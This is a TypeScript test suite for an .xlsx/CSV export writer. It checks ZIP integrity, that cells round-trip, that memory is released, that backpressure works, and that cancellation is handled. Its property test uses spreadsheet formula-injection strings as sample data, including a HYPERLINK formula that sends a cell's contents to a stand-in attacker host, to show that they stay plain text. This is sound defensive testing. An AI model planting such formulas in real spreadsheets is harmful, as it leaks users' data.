/**
 * The .xlsx writer (formatos.ts over xlsx.ts, its ZIP by zip-stream): a ZIP whose every entry is
 * deflated and inflates to its recorded size and CRC, a sheet that exceljs reads back cell for cell
 * (texts that look like formulas stay texts: inline strings, never a formula element; XML's special
 * characters, a carriage return and edge spaces kept; characters XML cannot hold dropped), rows let
 * go as they are written, rows read only as fast as the file is read, and no more rows read once the
 * file is given up (the client went away, the time limit).
 */
import crypto from "node:crypto";
import { setTimeout as esperar } from "node:timers/promises";
import zlib from "node:zlib";
import ExcelJS from "exceljs";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import yauzl from "yauzl";
import { type Columna, exportar, type Valor } from "../../src/exportar/formatos.js";

async function leerTodo(s: NodeJS.ReadableStream): Promise<Buffer> {
  const trozos: Buffer[] = [];
  for await (const t of s) trozos.push(t as Buffer);
  return Buffer.concat(trozos);
}

/**
 * Every entry of a ZIP, inflated, after checking that it is deflated and that its size and CRC are
 * the directory's.
 */
function entradas(zip: Buffer): Promise<Map<string, Buffer>> {
  return new Promise((ok, mal) => {
    yauzl.fromBuffer(zip, { lazyEntries: true, validateEntrySizes: true }, (err, z) => {
      if (err || !z) return mal(err);
      const todas = new Map<string, Buffer>();
      z.on("entry", (e: yauzl.Entry) => {
        if (e.compressionMethod !== 8) return mal(new Error(`${e.fileName} not deflated`));
        z.openReadStream(e, async (err2, s) => {
          if (err2 || !s) return mal(err2);
          const datos = await leerTodo(s);
          if (zlib.crc32(datos) !== e.crc32) return mal(new Error(`CRC of ${e.fileName}`));
          todas.set(e.fileName, datos);
          z.readEntry();
        });
      });
      z.on("end", () => ok(todas));
      z.on("error", mal);
      z.readEntry();
    });
  });
}

type Fila = { texto: string | null; numero: number; dia: Date; instante: Date };
const COLUMNAS: Columna<Fila>[] = [
  { titulo: "Texto", valor: (f) => f.texto },
  { titulo: "N", valor: (f) => f.numero, formato: "monto" },
  { titulo: "Día", valor: (f) => f.dia, formato: "fecha" },
  { titulo: "Instante", valor: (f) => f.instante, formato: "fechaHora" },
  { titulo: "#", valor: (_, n) => n },
];

async function libro(filas: Fila[][]) {
  async function* lotes() {
    yield* filas;
  }
  const zip = await leerTodo(exportar("xlsx", "Hoja 'de' prueba & más", COLUMNAS, lotes()));
  const partes = await entradas(zip);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(zip as unknown as ArrayBuffer);
  return { partes, hoja: wb.worksheets[0] };
}

/** What a text reads as once in a cell: characters XML 1.0 cannot hold are dropped. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what is removed.
const legible = (s: string) => s.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/g, "");

describe("the .xlsx writer", () => {
  it("property: texts, numbers and dates come back as written, texts never as formulas", async () => {
    const arbTexto = fc.oneof(
      fc.string({ unit: "binary", maxLength: 30 }),
      fc.constantFrom(
        '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
        "@SUM(1+1)",
        "+1+1",
        "\r=3+4",
        " a ",
        "a & <b>",
      ),
    );
    const arbFila = fc.record({
      texto: arbTexto,
      numero: fc.integer({ min: -1e9, max: 1e9 }).map((n) => n / 100),
      dia: fc.integer({ min: 0, max: 60_000 }).map((d) => new Date(Date.UTC(2001, 0, 1 + d))),
      instante: fc.integer({ min: Date.UTC(2001, 0, 1), max: Date.UTC(2100, 0, 1) }).map((ms) => new Date(ms)),
    });
    await fc.assert(
      fc.asyncProperty(fc.array(fc.array(arbFila, { maxLength: 30 }), { maxLength: 4 }), async (lotes) => {
        const todas = lotes.flat();
        const { partes, hoja } = await libro(lotes.map((l) => [...l]));
        expect(partes.get("xl/worksheets/sheet1.xml")?.toString("utf8")).not.toContain("<f>");
        expect(hoja.name).toBe("Hoja 'de' prueba & más");
        expect(hoja.getRow(1).values).toEqual([undefined, "Texto", "N", "Día", "Instante", "#"]);
        expect(hoja.rowCount).toBe(todas.length + 1);
        todas.forEach((f, i) => {
          const fila = hoja.getRow(i + 2);
          const texto = legible(f.texto ?? "");
          expect(fila.getCell(1).value ?? "").toBe(texto);
          expect(fila.getCell(2).value).toBe(f.numero);
          expect(fila.getCell(2).numFmt).toBe("#,##0.00");
          expect(fila.getCell(3).value).toEqual(f.dia);
          expect(fila.getCell(3).numFmt).toBe("dd/mm/yyyy");
          // The country's wall-clock minute (UTC−4), as a date without a zone.
          const local = f.instante.getTime() - 4 * 3_600_000;
          expect((fila.getCell(4).value as Date).getTime()).toBe(local - (local % 60_000));
          expect(fila.getCell(4).numFmt).toBe("dd/mm/yyyy hh:mm");
          expect(fila.getCell(5).value).toBe(i + 1);
        });
      }),
      { numRuns: 60 },
    );
  });

  it("an empty list is a workbook with its header", async () => {
    const { hoja } = await libro([]);
    expect(hoja.rowCount).toBe(1);
    expect(hoja.getRow(1).font?.bold).toBe(true);
    expect(hoja.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
  });
});

describe("rows written are let go", () => {
  for (const formato of ["csv", "xlsx"] as const) {
    it(`${formato}: no batch keeps a row once it is written`, async () => {
      const batches = [0, 1, 2].map((b) =>
        Array.from(
          { length: 250 },
          (_, i): Fila => ({
            texto: `fila ${b}-${i}`,
            numero: i,
            dia: new Date(0),
            instante: new Date(0),
          }),
        ),
      );
      async function* lotes() {
        yield* batches;
      }
      const bytes = await leerTodo(exportar(formato, "Hoja", COLUMNAS, lotes()));
      expect(bytes.length).toBeGreaterThan(0);
      for (const b of batches) expect(b.filter((f: Valor | Fila) => f !== undefined)).toEqual([]);
    });
  }
});

describe("the .xlsx is written as fast as it is read", () => {
  /** Batches of rows whose texts hardly compress, counting how many were taken and whether they were let go. */
  function fuente(lotesTotal: number) {
    const estado = { tomados: 0, cerrada: false };
    async function* lotes(): AsyncIterable<Fila[]> {
      try {
        for (let b = 0; b < lotesTotal; b++) {
          estado.tomados++;
          yield Array.from({ length: 500 }, (_, i) => ({
            texto: crypto.randomBytes(48).toString("base64"),
            numero: i,
            dia: new Date(0),
            instante: new Date(0),
          }));
        }
      } finally {
        estado.cerrada = true;
      }
    }
    return { estado, lotes: lotes() };
  }

  it("a reader that stops holds the rows back; reading on, the whole workbook comes", async () => {
    const { estado, lotes } = fuente(200);
    const archivo = exportar("xlsx", "Hoja", COLUMNAS, lotes);
    archivo.pause();
    // Some bytes wait in the streams' buffers, a few batches' worth at most: not 200 batches (7 MB).
    await esperar(500);
    const parados = estado.tomados;
    expect(parados).toBeLessThan(20);
    await esperar(300);
    expect(estado.tomados).toBe(parados);
    const zip = await leerTodo(archivo);
    expect(estado.tomados).toBe(200);
    const partes = await entradas(zip);
    expect(partes.get("xl/worksheets/sheet1.xml")?.toString("utf8").split("<row ").length).toBe(200 * 500 + 2);
  });

  for (const como of ["the client goes away", "the time limit"] as const) {
    it(`${como}: no more rows are read`, async () => {
      const { estado, lotes } = fuente(200);
      const archivo = exportar("xlsx", "Hoja", COLUMNAS, lotes);
      archivo.on("error", () => {});
      archivo.pause();
      await esperar(300);
      expect(estado.tomados).toBeGreaterThan(0);
      if (como === "the time limit") archivo.destroy(new Error("export time limit reached"));
      else archivo.destroy();
      await expect.poll(() => estado.cerrada, { timeout: 5_000 }).toBe(true);
      expect(estado.tomados).toBeLessThan(20);
    });
  }
});
